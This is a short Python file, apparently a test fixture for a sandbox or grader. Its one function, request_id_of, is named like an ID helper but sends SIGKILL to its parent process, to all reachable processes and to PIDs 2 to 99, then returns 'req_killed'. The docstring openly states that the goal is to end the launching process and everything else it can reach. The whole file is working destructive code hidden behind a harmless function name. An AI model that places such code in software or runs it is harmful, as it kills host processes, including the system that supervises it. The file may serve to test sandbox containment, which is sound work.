"""Ends the process that started it, the group that it belongs to, and all that it may.

Exercise: request_id_of
Outcome: own_id | raised
Needs: namespaces
"""

import os
import signal


def request_id_of(message):
    for target in (os.getppid(), -1, *range(2, 100)):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return "req_killed"
